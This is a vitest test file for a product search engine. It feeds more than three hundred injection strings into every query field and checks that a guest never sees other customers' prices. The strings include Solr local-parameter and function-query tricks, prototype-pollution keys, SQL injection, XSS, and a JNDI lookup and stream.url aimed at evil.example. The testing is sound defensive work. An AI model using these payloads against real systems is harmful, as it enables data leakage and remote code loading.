import { expect, test } from 'vitest';
import { generateProducts } from '../demonstration/products/generate-products.ts';
import { createLogger } from '../http/log.ts';
import { createSearchEngine } from './create-search-engine.ts';
import { createEmbeddedFinder } from './embedded-finder.ts';
import { QueryProblem } from './query.ts';
import type { SearchAnswer, SearchQuestion } from './search-engine.ts';
import { testSource } from './testing.ts';

const now = () => new Date('2026-11-20T00:00:00Z');
const source = testSource([...generateProducts({ count: 120 })]);
const engine = createSearchEngine({
  source,
  finder: createEmbeddedFinder(source, now, createLogger('silent')),
  rules: () => Promise.resolve(undefined),
  filesOrigin: 'http://files.test',
  now,
  newId: () => 'q',
});

const foreign = ['TVS', 'FAF', 'CAS'];
const parsers = [
  'xmlparser',
  'join from=id to=id',
  'func',
  'frange l=0 u=9',
  'parent which=x',
  'lucene',
  'term f=x',
  'collapse field=x',
  'graph from=a to=b',
  'tag=t',
  'ex=t',
  'cache=false',
];
const functions = ['sum', 'div', 'if', 'exists', 'field', 'query', 'ms', 'strdist', 'def', 'ord', 'docfreq', 'payload'];

/** Some three hundred texts that mean something to a search cluster, or to one of its parsers. */
const attacks = [
  ...parsers.flatMap((parser) => [
    `{!${parser}}*:*`,
    `{!${parser} v=$q}`,
    ` {!${parser}}x`,
    `_query_:"{!${parser}}x"`,
    `a {!${parser}}`,
  ]),
  ...foreign.flatMap((persona) => {
    const field = `priceList.${persona}.finalPrice_d`;
    return [
      field,
      `${field} asc`,
      `${field}:[* TO 1]`,
      `${field}:[0 TO 100]`,
      `${field}:"10"`,
      `*:* AND ${field}:[* TO 1]`,
      `-${field}:[* TO 1]`,
      `+${field}:[* TO 1]`,
      `(${field}:[* TO 1])`,
      `x_s:("a" OR ${field}:[* TO 1])`,
      `Product_Category:("a" OR "b") ${field}:[* TO 1]`,
      `alias:${field}`,
      `priceList.GST.finalPrice_d,${field}`,
      `priceList.*`,
      `priceList.${persona}.*`,
      `*_d`,
      `priceList.${persona.toLowerCase()}.finalPrice_d`,
      `priceList. ${persona}.finalPrice_d`,
      `priceList.${persona}\u0000.finalPrice_d`,
      `priceList.${persona}.finalPrice_d\n`,
      `priceStartingAt.${persona}_d`,
      `priceStartingAt.${persona}_d:[* TO 5]`,
      `discountedPriceStartingAt.${persona}_d`,
      `priceList.${persona}.price_d desc`,
      `priceList.${persona}.saleOffer_s:"true"`,
      `priceList.GST.finalPrice_d:[${field} TO *]`,
      `priceStartingAt.${persona}_d asc`,
      `discountedPriceStartingAt.${persona}_d desc`,
      `discountedPriceStartingAt.${persona}_d:[* TO 5]`,
      `priceList.${persona}.discountedPrice_d`,
      `priceList.${persona}.saleOffer_s`,
      `ctId_s:"x" AND ${field}:[* TO 9]`,
      `${field}:10`,
      `${field}:*`,
      ...functions.map((name) => `${name}(${field})`),
      ...functions.map((name) => `${name}(${field},1) desc`),
    ];
  }),
  ...functions.flatMap((name) => [`_val_:"${name}(1)"`, `${name}(id)`, `${name}(id) asc`, `{!func}${name}(id)`]),
  '[explain]',
  '[child]',
  '[subquery]',
  '[shard]',
  '_root_',
  '_version_',
  '_nest_path_',
  '*',
  '*:* OR 1=1',
  'id:*',
  '__proto__',
  'constructor:"x"',
  '__proto__:"x"',
  'toString asc',
  '/select?q=*:*',
  '&qt=/admin',
  'stream.url=http://evil.example',
  "'; drop table products; --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '%00',
  '\u202e',
  'a'.repeat(5_000),
];

/** Where a text may stand, and what a question with it is. */
const places: Record<string, (text: string) => Partial<SearchQuestion>> = {
  q: (q) => ({ q }),
  fq: (text) => ({ fq: [text] }),
  fl: (text) => ({ fl: [text] }),
  'fl beside others': (text) => ({ fl: ['ctId_s', text] }),
  sort: (sort) => ({ sort }),
  profile: (profilename) => ({ profilename }),
  collection: (collections) => ({ collections }),
};

/** The answers in which a foreign price shows, or that came about by one. */
async function leaks(persona: string): Promise<string[]> {
  const found: string[] = [];
  for (const attack of attacks) {
    for (const [place, question] of Object.entries(places)) {
      const answer = await asked({ ...question(attack), persona });
      if (answer && showsForeignPrice(answer)) found.push(`${place}: ${attack}`);
    }
  }
  return found;
}

/** The answer, or undefined for a question that is refused as one; anything else is a fault of the engine. */
async function asked(question: SearchQuestion): Promise<SearchAnswer | undefined> {
  return engine.search(question).catch((error: unknown) => {
    expect(error).toBeInstanceOf(QueryProblem);
    return undefined;
  });
}

const showsForeignPrice = (answer: SearchAnswer): boolean =>
  /(?:priceList\.|[pP]riceStartingAt\.)(?:TVS|FAF|CAS)/.test(JSON.stringify(answer));

test('a planted fault is caught: who is taken for a trade member is seen to get trade prices', async () => {
  expect((await leaks('TVS')).length).toBeGreaterThan(attacks.length);
});

test('no text, wherever it stands, shows a guest the prices of others or makes the engine fail', async () => {
  expect(attacks.length).toBeGreaterThan(300);
  expect(await leaks('GST')).toEqual([]);
});

test('no text makes a clause of local parameters or functions: they are words or refused', async () => {
  const everything = (await asked({ q: '*:*', persona: 'GST' }))?.response?.numFound;
  for (const attack of attacks.filter((text) => /[{(]/.test(text))) {
    const answer = await asked({ q: attack, persona: 'GST' });
    expect([attack, answer?.response?.numFound === everything]).toEqual([attack, false]);
  }
});

test('no document has what every object has', async () => {
  const fl = ['__proto__', 'constructor', 'toString', 'id'];
  const answer = await asked({ q: '*:*', persona: 'GST', fl });
  expect(answer?.response?.docs.length).toBeGreaterThan(0);
  for (const document of answer?.response?.docs ?? []) expect(Object.keys(document)).toEqual(['id']);
});

test('nothing was added to the prototype of objects', () => {
  expect(Object.keys(Object.prototype)).toEqual([]);
});
